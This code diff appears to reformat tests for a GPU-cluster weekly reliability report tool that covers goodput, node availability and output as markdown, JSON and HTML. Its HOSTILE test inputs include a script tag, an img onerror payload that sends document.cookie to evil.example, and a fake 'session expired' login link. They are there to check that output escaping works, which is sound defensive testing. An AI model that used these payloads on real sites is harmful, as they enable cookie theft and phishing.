@@ -93,15 +93,24 @@ def test_markdown_lists_worst_nodes_first(report):
 
 def test_json_carries_raw_values(report):
     payload = json.loads(to_json(report))
-    assert (payload["week"], payload["week_start"], payload["week_end"]) == ("2026-W48", "2026-11-23", "2026-11-30")
+    assert (payload["week"], payload["week_start"], payload["week_end"]) == (
+        "2026-W48",
+        "2026-11-23",
+        "2026-11-30",
+    )
     summary = {row["metric"]: row for row in payload["summary"]}
     assert summary["node_availability"]["value"] == pytest.approx(485 / 498)
     assert summary["node_availability"]["delta"] == pytest.approx(485 / 498 - 499 / 504)
     assert summary["goodput"]["value"] == pytest.approx(266 / 396)
     assert summary["mtbf_h"]["previous"] == pytest.approx(249.5)
     stack = {row["level"]: row["gpu_h"] for row in payload["goodput_stack"]}
-    assert stack["capacity"] == stack["unavailable"] + stack["unknown"] + stack["idle"] + stack["allocated"]
-    assert stack["allocated"] == sum(stack[k] for k in ("init", "checkpoint", "wasted", "other", "productive"))
+    assert (
+        stack["capacity"]
+        == stack["unavailable"] + stack["unknown"] + stack["idle"] + stack["allocated"]
+    )
+    assert stack["allocated"] == sum(
+        stack[k] for k in ("init", "checkpoint", "wasted", "other", "productive")
+    )
     assert [n["node"] for n in payload["top_nodes"]] == ["n2", "n1", "n3"]
     assert [n["down_gpu_h"] for n in payload["top_nodes"]] == [48.0, 32.0, 24.0]
     assert sum(f["attempts"] for f in payload["failures"]) == 4
@@ -151,8 +160,13 @@ def test_an_uncomputed_database_says_to_run_compute(tmp_path):
 def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
     return subprocess.run(
-        [sys.executable, "-m", "pipelines", *args], check=False, cwd=cwd, env=env, capture_output=True,
-        text=True, timeout=120,
+        [sys.executable, "-m", "pipelines", *args],
+        check=False,
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
     )
 
 
@@ -160,13 +174,24 @@ def test_cli_writes_md_json_and_html(fixture_db, tmp_path):
     md = run_cli("--db", str(fixture_db), "report", "--week", "2026-W48", cwd=tmp_path)
     assert md.returncode == 0, md.stderr
     assert "| Goodput | 67.17 % | 80.00 % | -12.83 pp |" in md.stdout
-    js = run_cli("--db", str(fixture_db), "report", "--week", "2026-W48", "--format", "json",
-                 "--cluster", "c1", cwd=tmp_path)
+    js = run_cli(
+        "--db",
+        str(fixture_db),
+        "report",
+        "--week",
+        "2026-W48",
+        "--format",
+        "json",
+        "--cluster",
+        "c1",
+        cwd=tmp_path,
+    )
     assert js.returncode == 0, js.stderr
     summary = {r["metric"]: r["value"] for r in json.loads(js.stdout)["summary"]}
     assert summary["node_availability"] == pytest.approx(320 / 330)
-    page = run_cli("--db", str(fixture_db), "report", "--week", "2026-W48", "--format", "html",
-                   cwd=tmp_path)
+    page = run_cli(
+        "--db", str(fixture_db), "report", "--week", "2026-W48", "--format", "html", cwd=tmp_path
+    )
     assert page.returncode == 0, page.stderr
     assert "<td class=n>67.17 %</td>" in (tmp_path / "report-2026-W48.html").read_text()
 
@@ -196,12 +221,14 @@ def test_a_past_week_shows_what_was_recommended_then(fixture_db):
     w47 = build_report(con, parse_week("2026-W47"))
     con.close()
     assert w47.remediation.select("node", "step").rows() == [("n3", "cordon")]
-    assert w47.findings.select("node", "kind", "impact_gpu_h").rows() == [("n3", "throttling", 12.0)]
+    assert w47.findings.select("node", "kind", "impact_gpu_h").rows() == [
+        ("n3", "throttling", 12.0)
+    ]
 
 
 HOSTILE = [
-    '<script>alert(1)</script>',
-    '<img src=x onerror="fetch(\'http://evil.example/\'+document.cookie)">',
+    "<script>alert(1)</script>",
+    "<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">",
     "[Session expired, log in again](http://evil.example/login)",
     "![pixel](http://evil.example/p.png)",
     "http://evil.example/bare www.evil.example",
@@ -218,7 +245,9 @@ def test_markdown_escapes_html_and_link_syntax_in_every_cell(report, name):
     hostile = dataclasses.replace(
         report,
         cluster=name,
-        top_nodes=report.top_nodes.with_columns(pl.lit(name).alias("node"), pl.lit(name).alias("gpu_model")),
+        top_nodes=report.top_nodes.with_columns(
+            pl.lit(name).alias("node"), pl.lit(name).alias("gpu_model")
+        ),
         failures=report.failures.with_columns(pl.lit(name).alias("cause")),
     )
     text = to_markdown(hostile)
